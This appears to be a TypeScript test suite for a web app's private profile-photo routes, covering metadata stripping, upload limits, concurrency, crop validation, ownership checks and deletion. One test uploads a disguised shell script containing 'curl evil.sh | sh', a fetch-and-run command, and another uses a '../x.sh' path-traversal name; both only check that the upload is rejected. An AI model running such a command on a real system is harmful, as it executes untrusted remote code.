// Private photos through the real routes (RULES.md "Reads and writes", "Files", "Validation"): upload, the limit of
// three (also under concurrency), types by bytes, the profile photo, deletion, and what menudata and profile say
// about them.
import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storageKeys } from '../../platform/storage/storage.ts';
import { make, type TestUser } from '../../testing/factories.ts';
import { startTestServer, type TestServer } from '../../testing/test-server.ts';
import { apiGet, apiPost } from '../auth/testing/auth-test-kit.ts';
import { createPrivatePhotosRepo } from './private-photos.repo.ts';
import { makeJpeg, makePng, postMultipart, uploadPhoto } from './testing/media-test-kit.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const FILENAME = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}\.jpg$/;
const MAX = "You've uploaded the maximum number of images";

async function photos(user: TestUser) {
  return (await apiGet(server, 'profileimages', { cookie: user.cookie })).json().images as {
    id: string;
    filename: string;
    profile: 0 | 1;
  }[];
}

async function withPhotos(n: number) {
  const user = await make.account(server);
  const jpeg = await makeJpeg();
  for (let i = 0; i < n; i++) expect((await uploadPhoto(server, user, jpeg)).statusCode).toBe(200);
  return user;
}

describe('POST /uploadprofileimage', () => {
  it('stores a GPS-tagged photo as a 1080 px square jpeg under a random name, with no metadata', async () => {
    const me = await make.account(server);
    const res = await uploadPhoto(
      server,
      me,
      await makeJpeg({ width: 1200, height: 900, exif: { orientation: 1 } }),
    );
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toEqual({
      success: true,
      id: expect.any(String),
      filename: expect.stringMatching(FILENAME),
    });
    const stored = await server.app.services.storage.get(storageKeys.privatePhoto(me.id, body.filename));
    expect(stored?.contentType).toBe('image/jpeg');
    const meta = await sharp(stored?.bytes).metadata();
    expect([meta.width, meta.height, meta.exif, meta.icc, meta.xmp]).toEqual([
      1080,
      1080,
      undefined,
      undefined,
      undefined,
    ]);
    expect(stored?.bytes.includes(Buffer.from('GPS'))).toBe(false);
    // In the test server's own temporary data folder, never in ./data.
    const file = path.join(server.config.dataDir, 'media', storageKeys.privatePhoto(me.id, body.filename));
    expect(existsSync(file)).toBe(true);
    expect(server.config.dataDir).not.toBe(path.resolve('data'));
  });

  it('takes png too, and makes the first photo the profile photo', async () => {
    const me = await make.account(server);
    const first = (await uploadPhoto(server, me, await makePng())).json();
    const second = (await uploadPhoto(server, me, await makeJpeg())).json();
    expect(await photos(me)).toEqual([
      { id: first.id, filename: first.filename, profile: 1 },
      { id: second.id, filename: second.filename, profile: 0 },
    ]);
  });

  it('refuses a script renamed .png with 415 and a readable sentence, and stores nothing', async () => {
    const me = await make.account(server);
    const res = await postMultipart(
      server,
      '/uploadprofileimage',
      [
        {
          name: 'file',
          filename: 'cute.png',
          contentType: 'image/png',
          data: Buffer.from('#!/bin/sh\ncurl evil.sh | sh\n'),
        },
      ],
      me,
    );
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({ success: false, error: 'Only jpg or png images can be uploaded.' });
    expect(await photos(me)).toEqual([]);
  });

  it('refuses a file over 10 MB with 413', async () => {
    const me = await make.account(server);
    const big = Buffer.concat([await makeJpeg(), Buffer.alloc(10 * 1024 * 1024)]);
    const res = await uploadPhoto(server, me, big);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ success: false, error: 'Photos can be at most 10 MB.' });
  });

  it('refuses a fourth photo', async () => {
    const me = await withPhotos(3);
    const res = await uploadPhoto(server, me, await makeJpeg());
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ success: false, error: MAX });
    expect(await photos(me)).toHaveLength(3);
  });

  it('lets only one of two parallel uploads through at two photos', async () => {
    const me = await withPhotos(2);
    const jpeg = await makeJpeg();
    const results = await Promise.all([uploadPhoto(server, me, jpeg), uploadPhoto(server, me, jpeg)]);
    expect(results.map((r) => r.statusCode).sort()).toEqual([200, 400]);
    const listed = await photos(me);
    expect(listed).toHaveLength(3);
    // The refused upload's file was removed again: the folder holds exactly the listed files.
    const folder = path.join(server.config.dataDir, 'media', 'photos', me.id);
    expect(readdirSync(folder).sort()).toEqual(listed.map((p) => p.filename).sort());
  });

  it('holds the limit when many inserts race in the database (the lock, without sharp in between)', async () => {
    const me = await make.account(server);
    const repo = createPrivatePhotosRepo(server.database.db);
    const results = await Promise.all(
      Array.from({ length: 8 }, () => repo.insertWithinLimit(me.id, `${randomUUID()}.jpg`, 3)),
    );
    expect(results.filter(Boolean)).toHaveLength(3);
    expect((await photos(me)).filter((p) => p.profile === 1)).toHaveLength(1);
  });

  it('checks the crop: JSON with x, y, width and height', async () => {
    const me = await make.account(server);
    const jpeg = await makeJpeg();
    const notJson = await uploadPhoto(server, me, jpeg, '{x:1');
    expect(notJson.statusCode).toBe(400);
    expect(notJson.json().error).toBe('The crop must be JSON like {"x":0,"y":0,"width":1000,"height":1000}.');
    const zero = await uploadPhoto(server, me, jpeg, { x: 0, y: 0, width: 0, height: 10 });
    expect(zero.json()).toMatchObject({
      success: false,
      error: 'The crop needs a width and height above zero.',
    });
    const words = await uploadPhoto(server, me, jpeg, { x: 'left', y: 0, width: 10, height: 10 });
    expect(words.json()).toMatchObject({
      success: false,
      error: 'The crop needs x, y, width and height in pixels.',
    });
    expect((await uploadPhoto(server, me, jpeg, { x: 10, y: 10, width: 100, height: 100 })).statusCode).toBe(
      200,
    );
  });

  it('needs a file, a multipart body, and a verified member', async () => {
    const me = await make.account(server);
    const none = await postMultipart(server, '/uploadprofileimage', [{ name: 'crop', value: '' }], me);
    expect(none.json()).toMatchObject({ success: false, error: 'Choose a photo to upload.' });
    const json = await server.app.inject({
      method: 'POST',
      url: '/uploadprofileimage',
      headers: { cookie: me.cookie, 'content-type': 'application/json' },
      payload: { file: 'x' },
    });
    expect(json.statusCode).toBe(415);
    expect((await uploadPhoto(server, undefined, await makeJpeg())).statusCode).toBe(401);
    const unverified = await make.account(server, { verified: false });
    expect((await uploadPhoto(server, unverified, await makeJpeg())).statusCode).toBe(403);
    const extra = await postMultipart(
      server,
      '/uploadprofileimage',
      [
        { name: 'userid', value: 'someone-else' },
        { name: 'file', filename: 'a.jpg', contentType: 'image/jpeg', data: await makeJpeg() },
      ],
      me,
    );
    expect(extra.json()).toMatchObject({ success: false, error: 'Unexpected field "userid".' });
  });

  it('leaves /api refusing multipart bodies (415): multipart is parsed on the upload routes only', async () => {
    const me = await make.account(server);
    const res = await postMultipart(server, '/api', [{ name: 'action', value: 'menudata' }], me);
    expect(res.statusCode).toBe(415);
  });
});

describe('the photo actions', () => {
  it('setuserprofileimage moves the profile photo, refuses the current one, and only takes own photos', async () => {
    const me = await withPhotos(2);
    const [first, second] = await photos(me);
    const again = await apiPost(server, 'setuserprofileimage', { id: first?.id }, { cookie: me.cookie });
    expect(again.statusCode).toBe(400);
    expect(again.json()).toMatchObject({
      success: false,
      error: 'This is already set as your profile image.',
    });
    expect(
      (await apiPost(server, 'setuserprofileimage', { id: second?.id }, { cookie: me.cookie })).json(),
    ).toEqual({
      success: true,
    });
    expect((await photos(me)).map((p) => p.profile)).toEqual([0, 1]);

    const other = await make.account(server);
    expect(
      (await apiPost(server, 'setuserprofileimage', { id: first?.id }, { cookie: other.cookie })).statusCode,
    ).toBe(403);
    expect(
      (await apiPost(server, 'setuserprofileimage', { id: 'not-a-uuid' }, { cookie: me.cookie })).statusCode,
    ).toBe(404);
    const unknown = '00000000-0000-4000-8000-000000000000';
    expect(
      (await apiPost(server, 'setuserprofileimage', { id: unknown }, { cookie: me.cookie })).statusCode,
    ).toBe(404);
  });

  it('deluserimage deletes the row and the file, hands the profile on, and only takes own photos', async () => {
    const me = await withPhotos(3);
    const [first, second, third] = await photos(me);
    const stranger = await make.account(server);
    const refused = await apiPost(
      server,
      'deluserimage',
      { filename: first?.filename },
      { cookie: stranger.cookie },
    );
    expect(refused.statusCode).toBe(403);
    expect(await photos(me)).toHaveLength(3);

    expect(
      (await apiPost(server, 'deluserimage', { filename: first?.filename }, { cookie: me.cookie })).json(),
    ).toEqual({
      success: true,
    });
    expect(
      await server.app.services.storage.get(storageKeys.privatePhoto(me.id, first?.filename ?? '')),
    ).toBeNull();
    expect(await photos(me)).toEqual([
      { id: second?.id, filename: second?.filename, profile: 1 },
      { id: third?.id, filename: third?.filename, profile: 0 },
    ]);
    await apiPost(server, 'deluserimage', { filename: third?.filename }, { cookie: me.cookie });
    await apiPost(server, 'deluserimage', { filename: second?.filename }, { cookie: me.cookie });
    expect(await photos(me)).toEqual([]);
    const gone = await apiPost(server, 'deluserimage', { filename: second?.filename }, { cookie: me.cookie });
    expect(gone.statusCode).toBe(404);
  });

  it('uploadprofileimages accepts image names and does nothing else; other names are refused', async () => {
    const me = await make.account(server);
    const ok = await apiPost(
      server,
      'uploadprofileimages',
      { images: [{ filename: 'IMG_0001.JPG' }] },
      { cookie: me.cookie },
    );
    expect(ok.json()).toEqual({ success: true });
    expect(await photos(me)).toEqual([]);
    const bad = await apiPost(
      server,
      'uploadprofileimages',
      { images: [{ filename: '../x.sh' }] },
      { cookie: me.cookie },
    );
    expect(bad.json()).toMatchObject({ success: false, error: 'Only jpg or png images can be uploaded.' });
  });

  it('menudata names the profile photo, and profile says hasprivate once there is one', async () => {
    const me = await make.account(server);
    const menu = async () => (await apiGet(server, 'menudata', { cookie: me.cookie })).json().md[0];
    const flags = async () => {
      const { haspublic, hasprivate } = (await apiGet(server, 'profile', { cookie: me.cookie })).json();
      return { haspublic, hasprivate };
    };
    expect((await menu()).profileimage).toBeNull();
    expect(await flags()).toEqual({ haspublic: false, hasprivate: false });
    const { filename } = (await uploadPhoto(server, me, await makeJpeg())).json();
    expect((await menu()).profileimage).toBe(filename);
    expect(await flags()).toEqual({ haspublic: false, hasprivate: true });
  });
});
